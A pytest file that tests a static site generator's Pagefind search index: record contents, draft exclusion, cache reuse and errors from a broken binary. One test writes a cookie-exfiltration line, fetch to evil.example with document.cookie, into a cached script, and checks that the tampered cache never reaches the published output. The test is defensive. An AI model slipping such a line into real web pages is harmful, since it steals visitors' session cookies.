"""The search index: a Pagefind bundle in output/pagefind/, made by every build that writes.

Small sites written inline, built with the real CLI (and, where a count of Pagefind's runs is
needed, with ``build()`` in this process). What is indexed is read back from the bundle itself:
its entry file counts the records, and each record's fragment (gzipped JSON) holds its text.
Searching in a browser is tests/browser/test_search.py's job.
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import json
import os
import stat
import zipfile
from pathlib import Path

import pytest
from helpers import assert_no_traceback, build_ok, docket, seed_output, snapshot, stray_build_folders, write_site

from generator import search, searchcache, searchindex
from generator.build import build
from generator.markdown import RenderedBody
from generator.session import BuildSession

NOW = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)

SITE = {
    "content/incidents/fire.md": """
        ---
        title: Fire at the depot
        date: 2023-03-27
        summary: A fire broke out at night.
        status: confirmed
        location: {place: Juárez, region: Chihuahua, country: Mexico}
        tags: [detention, fire]
        entities: [city-council]
        sources:
          - id: wire-report
            title: Wire report on the fire
            publisher: Example Wire
            url: "https://example.org/wire/fire"
            published: 2023-03-28
        claims:
          - text: The doors were locked from the outside.
            status: disputed
        ---
        The fire began at night near the *xylophonic* warehouse [@wire-report].[^1]

        [^1]: Seen by a witness.
        """,
    "content/incidents/flood.md": """
        ---
        title: Flood in the camp
        date: 2022-06-01
        status: developing
        location: {country: Guatemala}
        tags: [flood]
        ---
        Water rose over the riverbank.
        """,
    "content/incidents/secret.md": """
        ---
        title: Unfinished draft
        date: 2024-01-01
        draft: true
        ---
        Nobody may find the word quokkaberry before this is published.
        """,
    "content/reports/review.md": """
        ---
        title: A year in review
        date: 2024-02-02
        author: A. Writer
        incidents: [fire]
        tags: [fire]
        ---
        A look back at the fire and the flood.
        """,
    "content/entities/city-council.md": """
        ---
        name: City council
        kind: organisation
        country: Mexico
        ---
        The council that runs the city.
        """,
    "content/pages/about.md": """
        ---
        title: About
        ---
        Who we are.
        """,
    "content/sources/flood-gauge.md": """
        ---
        title: River gauge readings
        type: dataset
        publisher: Water Agency
        url: "https://example.org/gauge"
        published: 2022-06-02
        notes: Hourly readings of the river level at the camp.
        ---
        """,
}
# Two incidents, one report, one source with text of its own (the inline wire report has none and
# is cited by an incident, whose record holds its title: it has no record of its own), one entity,
# one page; the pages of three tags, two countries and one place.
RECORDS = 12


def fragments(out: Path) -> dict[str, dict]:
    """Every record in the bundle, by URL: its fragment's JSON (Pagefind writes them gzipped)."""
    records = {}
    for path in (out / "pagefind" / "fragment").iterdir():
        data = gzip.decompress(path.read_bytes())
        assert data.startswith(b"pagefind_dcd"), path
        record = json.loads(data[len(b"pagefind_dcd"):])
        records[record["url"]] = record
    return records


def entry(out: Path) -> dict:
    return json.loads((out / "pagefind" / "pagefind-entry.json").read_text(encoding="utf-8"))


def manifest_paths(out: Path) -> set[str]:
    return {f["path"] for f in json.loads((out / ".docket-manifest.json").read_text(encoding="utf-8"))["files"]}


def counting_binary(tmp_path: Path, log: Path) -> Path:
    """A stand-in for the Pagefind binary that notes each run in ``log``, then runs the real one."""
    real = searchindex.executable()
    script = tmp_path / "pagefind-counting"
    script.write_text(f'#!/bin/sh\necho run >> "{log}"\nexec "{real}" "$@"\n', encoding="utf-8")
    script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return script


def runs(log: Path) -> int:
    return len(log.read_text(encoding="utf-8").splitlines()) if log.exists() else 0


# --------------------------------------------------------------------------- the bundle


def test_the_build_writes_a_bundle_with_one_record_per_page_with_content(tmp_path):
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    out = site / "output"
    for name in ("pagefind.js", "pagefind-worker.js", "pagefind-entry.json", "wasm.en.pagefind"):
        assert (out / "pagefind" / name).is_file(), name
    assert entry(out)["languages"]["en"]["page_count"] == RECORDS
    records = fragments(out)
    assert sorted(records) == ["about/", "countries/guatemala/", "countries/mexico/", "entities/city-council/",
                               "incidents/fire/", "incidents/flood/", "places/juarez-mexico/", "reports/review/",
                               "sources/flood-gauge/", "tags/detention/", "tags/fire/", "tags/flood/"]
    # Every file of the bundle is in the manifest, so a later build removes what it no longer makes.
    bundle = {p.relative_to(out).as_posix() for p in (out / "pagefind").rglob("*") if p.is_file()}
    assert bundle <= manifest_paths(out)


def test_records_hold_the_content_with_meta_and_filters(tmp_path):
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    fire = fragments(site / "output")["incidents/fire/"]
    text = fire["content"]
    for words in ("A fire broke out at night.", "The doors were locked from the outside.",
                  "near the xylophonic warehouse.", "Seen by a witness."):
        assert words in text, (words, text)
    assert "<" not in text and "[1]" not in text and "↩" not in text  # no markup, citation numbers or back-links
    for chrome in ("Skip to main content", "Corrections log", "All incidents"):
        assert chrome not in text  # the theme's chrome is not indexed
    # The title and the place are searched in the meta, and shown above the excerpt rather than in it.
    assert "Fire at the depot" not in text and "Chihuahua" not in text
    assert fire["meta"] == {"kind": "Incident", "title": "Fire at the depot", "date": "27 March 2023",
                            "place": "Juárez, Chihuahua, Mexico", "status": "Confirmed",
                            "names": "City council; Wire report on the fire; Example Wire; Detention; Fire"}
    assert fire["filters"] == {"kind": ["Incident"], "tag": ["Detention", "Fire"], "country": ["Mexico"],
                               "year": ["2023"], "status": ["Confirmed"]}
    records = fragments(site / "output")
    assert records["reports/review/"]["filters"] == {"kind": ["Report"], "tag": ["Fire"], "year": ["2024"]}
    assert records["sources/flood-gauge/"]["filters"] == {"kind": ["Source"], "year": ["2022"]}
    assert "Hourly readings of the river level" in records["sources/flood-gauge/"]["content"]
    assert records["entities/city-council/"]["filters"] == {"kind": ["Entity"], "country": ["Mexico"]}
    assert records["about/"]["filters"] == {"kind": ["Page"]}


def test_drafts_are_not_indexed(tmp_path):
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    out = site / "output"
    assert "incidents/secret/" not in fragments(out)
    everything = b"".join(gzip.decompress(p.read_bytes()) if p.suffix.startswith(".pf_") else p.read_bytes()
                          for p in (out / "pagefind").rglob("*") if p.is_file())
    assert b"quokkaberry" not in everything and b"Unfinished draft" not in everything
    assert b"xylophonic" in b"".join(gzip.decompress(p.read_bytes())
                                     for p in (out / "pagefind" / "fragment").iterdir())
    # With --drafts (as in the preview) it is there.
    build_ok(site, "--drafts", "--output", str(tmp_path / "drafts"))
    assert "quokkaberry" in fragments(tmp_path / "drafts")["incidents/secret/"]["content"]


def test_result_urls_are_site_paths_the_same_under_any_base_path(tmp_path):
    site = write_site(tmp_path / "site", SITE, site_yaml="title: T\nbase_url: https://example.org/docket/\n")
    build_ok(site)
    assert all(not url.startswith(("/", "http")) for url in fragments(site / "output"))
    root = build(site, tmp_path / "at-root", base_path="/", now=NOW, cache=False)
    assert root.ok
    # The same records (Pagefind names its index files differently on each run, so not the same bytes).
    assert fragments(tmp_path / "at-root") == fragments(site / "output")


def test_files_the_bundle_no_longer_has_are_removed(tmp_path):
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    out = site / "output"
    before = {f"pagefind/{path}" for path in snapshot(out / "pagefind")}
    (site / "content/incidents/flood.md").write_text(
        "---\ntitle: Flood in the camp\ndate: 2022-06-01\n---\nThe water rose higher than ever.\n", encoding="utf-8")
    build_ok(site)
    after = {f"pagefind/{path}" for path in snapshot(out / "pagefind")}
    assert before - after, "no file of the old bundle was left out"
    assert after == {path for path in manifest_paths(out) if path.startswith("pagefind/")}
    assert "The water rose higher than ever." in fragments(out)["incidents/flood/"]["content"]
    # The flood no longer has a tag or a country: the pages of "flood" and Guatemala are gone, and their records.
    assert len(list((out / "pagefind" / "fragment").iterdir())) == RECORDS - 2


# --------------------------------------------------------------------------- reuse


def test_a_build_whose_records_did_not_change_reuses_the_bundle_from_the_cache(tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", SITE)
    log = tmp_path / "runs.log"
    monkeypatch.setenv("PAGEFIND_BINARY_PATH", str(counting_binary(tmp_path, log)))
    build_ok(site)
    assert runs(log) == 1
    first = snapshot(site / "output" / "pagefind")
    # A change that no record shows: the pages are rebuilt, the search index is not.
    (site / "site.yaml").write_text("title: Test site\nbase_url: https://example.org/\ndescription: New.\n",
                                    encoding="utf-8")
    build_ok(site)
    assert runs(log) == 1, "Pagefind ran again for the same records"
    assert snapshot(site / "output" / "pagefind") == first
    # A change that a record shows runs it again.
    (site / "content/pages/about.md").write_text("---\ntitle: About us\n---\nWho we are.\n", encoding="utf-8")
    build_ok(site)
    assert runs(log) == 2
    assert fragments(site / "output")["about/"]["meta"]["title"] == "About us"


def test_the_preview_session_reuses_the_bundle_in_memory(tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", SITE)
    out = tmp_path / "out"
    calls = []
    real = searchindex.run_pagefind
    monkeypatch.setattr(searchindex, "run_pagefind",
                        lambda exe, records, started=None: calls.append(len(records)) or real(exe, records, started))
    session = BuildSession(site, cache=False, drafts=True)
    assert build(site, out, drafts=True, session=session, now=NOW, base_path="/").ok
    assert calls == [RECORDS + 1]  # the draft too
    first = snapshot(out / "pagefind")
    (site / "templates").mkdir()
    (site / "templates" / "page.html").write_text('{% extends "default/page.html" %}', encoding="utf-8")
    second = build(site, out, drafts=True, session=session, now=NOW, base_path="/")
    assert second.ok and second.rendered > 0
    assert calls == [RECORDS + 1], "Pagefind ran again for the same records"
    assert snapshot(out / "pagefind") == first
    assert not any(path.startswith("pagefind/") for path in second.changed)
    assert not (site / ".docket-cache").exists()  # --no-cache: memory only


def test_a_damaged_cache_is_ignored(tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    cached = site / ".docket-cache" / searchcache.FOLDER / "shard-0.zip"
    assert cached.is_file()
    expected = fragments(site / "output")
    cached.write_bytes(b"not a zip file")
    (site / "site.yaml").write_text("title: Other title\nbase_url: https://example.org/\n", encoding="utf-8")
    build_ok(site)  # no warning, no error: Pagefind runs again and the cache is written anew
    assert fragments(site / "output") == expected
    assert zipfile.is_zipfile(cached)


def tamper(archive_path: Path, name: str, prefix: bytes) -> None:
    """Prefix one member of a cached bundle, keeping the rest and the comment (its digest) as they were."""
    with zipfile.ZipFile(archive_path) as archive:
        comment = archive.comment
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(archive_path, "w") as archive:
        archive.comment = comment
        for filename, data in members:
            archive.writestr(filename, prefix + data if filename == name else data)


def test_a_tampered_cached_bundle_never_reaches_the_output(tmp_path):
    # Sites are cloned from repositories others commit to: a cache in the site folder is not trusted.
    site = write_site(tmp_path / "site", SITE)
    build_ok(site)
    tamper(site / ".docket-cache" / searchcache.FOLDER / searchcache.RUNTIME, "pagefind.js", b"fetch('https://evil.example/?'+document.cookie);\n")
    (site / "site.yaml").write_text("title: Other title\nbase_url: https://example.org/\n", encoding="utf-8")
    build_ok(site)  # the records are the same: without a check, the tampered bundle would be reused
    clean = tmp_path / "clean"
    build_ok(site, "--no-cache", "--output", str(clean))
    published = (site / "output/pagefind/pagefind.js").read_bytes()
    assert b"evil.example" not in published
    assert published == (clean / "pagefind/pagefind.js").read_bytes()


# --------------------------------------------------------------------------- failure


# The reply the service gives to a request it cannot carry out.
ERROR_REPLY = base64.b64encode(json.dumps(
    {"message_id": 1, "payload": {"type": "Error", "message": "index refused"}}).encode()).decode()


def broken_binary(tmp_path: Path, name: str, script: str) -> Path:
    path = tmp_path / f"pagefind-{name}"
    path.write_text(script, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IEXEC)
    return path


@pytest.mark.parametrize("kind", ["missing", "fails", "nonsense", "error-reply"])
def test_a_broken_pagefind_is_one_clean_error_and_the_output_is_untouched(tmp_path, monkeypatch, kind):
    site = write_site(tmp_path / "site", SITE)
    scripts = {
        "fails": "#!/bin/sh\necho 'pagefind: cannot start: illegal instruction' >&2\nexit 3\n",
        "nonsense": "#!/bin/sh\nprintf 'not base64 at all,'\ncat > /dev/null\n",
        "error-reply": f"#!/bin/sh\nprintf '%s,' '{ERROR_REPLY}'\ncat > /dev/null\n",
    }
    binary = tmp_path / "no-such-pagefind" if kind == "missing" else broken_binary(tmp_path, kind, scripts[kind])
    monkeypatch.setenv("PAGEFIND_BINARY_PATH", str(binary))
    before = seed_output(site)
    run = docket("build", site)
    assert run.returncode == 1, run.describe()
    assert_no_traceback(run)
    assert len(run.errors) == 1, run.describe()
    error = run.errors[0]
    assert error.path == "pagefind" and "search index could not be built" in error.text, error.text
    assert str(binary) in error.text and "reinstall" in error.text, error.text
    detail = {"missing": "No such file", "fails": "illegal instruction", "nonsense": "failed",
              "error-reply": "index refused"}[kind]
    assert detail in error.text, error.text
    assert snapshot(site / "output") == before
    assert stray_build_folders(site) == []


def test_docket_check_does_not_run_pagefind(tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", SITE)
    monkeypatch.setenv("PAGEFIND_BINARY_PATH", str(tmp_path / "no-such-pagefind"))
    run = docket("check", site)
    assert run.returncode == 0, run.describe()
    assert not (site / "output").exists()


def test_without_the_pagefind_package_the_error_says_to_reinstall(tmp_path, monkeypatch):
    site = write_site(tmp_path / "site", SITE)
    blocker = tmp_path / "block"
    blocker.mkdir()
    (blocker / "pagefind").mkdir()
    (blocker / "pagefind" / "__init__.py").write_text("raise ImportError('pagefind is not installed')\n")
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(blocker), os.environ.get("PYTHONPATH", "")]))
    run = docket("build", site)
    assert run.returncode == 1, run.describe()
    assert_no_traceback(run)
    assert [e.path for e in run.errors] == ["pagefind"], run.describe()
    assert "package 'pagefind' is not installed" in run.errors[0].text and "reinstall" in run.errors[0].text


# --------------------------------------------------------------------------- text


def test_body_text_drops_markup_citations_and_back_links():
    body = RenderedBody(
        html='<h2 id="a">Two &amp; three</h2>\n<p>One <em>fine</em> day<sup class="cite"><a href="#s">[1]</a></sup>.'
             '<br>Next line</p><ul><li>a</li><li>b</li></ul>'
             '<section class="footnotes"><ol><li id="fn1"><p>Note <a href="#r" class="footnote-backref" '
             'aria-label="Back">↩</a></p></li></ol></section>',
        toc=(), sources=(), cited=(), uses={})
    # A heading ends with a full stop, so that an excerpt does not run it into the next sentence.
    assert search._text(body) == "Two & three.\nOne fine day.\nNext line\na\nb\nNote"
    assert search._text(None) == ""


# --------------------------------------------------------------------------- recall and excerpts

NAMING = {
    **SITE,
    "content/incidents/strike.md": """
        ---
        title: Strike at the mill
        date: 2023-05-01
        summary: Workers walked out of the mill.
        status: disputed
        fictional: true
        location: {place: Juárez, country: Mexico}
        tags: [fire]
        entities: [tun-union, city-council, juarez]
        sources: [wire-report]
        ---
        The strike began at dawn.

        | Figure | Number |
        |---|---:|
        | Men held in the yard | 12 |
        """,
    "content/entities/tun-union.md": """
        ---
        name: Tun Workers Union
        kind: organisation
        aliases: [TWU]
        country: Mexico
        ---
        A union of dock workers.
        """,
    "content/entities/juarez.md": """
        ---
        name: Ciudad Juárez
        kind: place
        aliases: [Juárez]
        country: Mexico
        ---
        """,
}


def test_an_incident_record_holds_the_names_it_names_outside_its_excerpt_text(tmp_path):
    site = write_site(tmp_path / "site", NAMING)
    build_ok(site)
    strike = fragments(site / "output")["incidents/strike/"]
    names = strike["meta"]["names"]
    # Pagefind searches a record's meta as well as its content: the names find the incident...
    for name in ("Tun Workers Union", "TWU", "City council", "Ciudad Juárez", "Wire report on the fire", "Example Wire",
                 "Fire"):
        assert name in names, (name, names)
    # ...and an excerpt, cut from the content alone, never shows them, nor labels or figure tables.
    text = strike["content"]
    assert text.startswith("Workers walked out of the mill."), text
    for noise in ("Tun Workers Union", "City council", "Strike at the mill", "Juárez", "Figure", "Men held"):
        assert noise not in text, (noise, text)
    assert "Men held in the yard 12" in strike["meta"]["tables"]
    assert strike["meta"]["title"] == "Strike at the mill" and strike["meta"]["place"] == "Juárez, Mexico"
    assert strike["meta"]["status"] == "Disputed" and strike["meta"]["fictional"] == "Fictional"
    assert "fictional" not in fragments(site / "output")["incidents/fire/"]["meta"]


def test_an_entity_record_keeps_its_aliases_kind_and_country_out_of_its_text(tmp_path):
    site = write_site(tmp_path / "site", NAMING)
    build_ok(site)
    records = fragments(site / "output")
    union = records["entities/tun-union/"]
    assert union["content"] == "A union of dock workers."
    assert union["meta"]["names"] == "TWU" and union["meta"]["type"] == "Organisation"
    assert union["meta"]["place"] == "Mexico"
    # An entity without text of its own says where it is named, rather than repeating its labels.
    juarez = records["entities/juarez/"]["content"]
    assert juarez == "Named in 1 incident.", juarez


def test_tag_country_and_place_pages_have_records_of_their_own(tmp_path):
    site = write_site(tmp_path / "site", NAMING)
    build_ok(site)
    records = fragments(site / "output")
    place = records["places/juarez-mexico/"]
    assert place["meta"]["title"] == "Juárez" and place["meta"]["place"] == "Mexico"
    assert place["filters"] == {"kind": ["Place"], "country": ["Mexico"]}
    assert place["content"] == "2 incidents in Juárez, Mexico."
    country = records["countries/mexico/"]
    assert country["filters"] == {"kind": ["Country"]} and country["content"] == "2 incidents in Mexico."
    tag = records["tags/fire/"]
    assert tag["filters"] == {"kind": ["Tag"]} and tag["meta"]["title"] == "Fire"
    assert tag["content"] == "2 incidents and 1 report tagged Fire."
    assert not any(url.startswith(("years/", "publishers/")) for url in records)


def test_a_source_with_no_text_is_found_through_the_incidents_citing_it(tmp_path):
    """A source with no notes or body of its own adds no record (one file fewer per source on a large
    site): its title and publisher are in each citing incident's record. One cited only by a report,
    whose record does not name its sources, keeps its own record so that a search still finds it."""
    site = write_site(tmp_path / "site", {**SITE, "content/reports/review.md": """
        ---
        title: A year in review
        date: 2024-02-02
        author: A. Writer
        incidents: [fire]
        sources: [annual-figures]
        ---
        A look back at the fire and the flood.
        """, "content/sources/annual-figures.md": """
        ---
        title: Annual figures of the ministry
        type: dataset
        publisher: Ministry
        url: "https://example.org/annual"
        ---
        """})
    build_ok(site)
    records = fragments(site / "output")
    assert "sources/wire-report/" not in records
    assert "Wire report on the fire" in records["incidents/fire/"]["meta"]["names"]
    assert (site / "output" / "sources" / "wire-report" / "index.html").is_file()  # its page stays
    assert records["sources/annual-figures/"]["content"] == "Cited in 1 report."
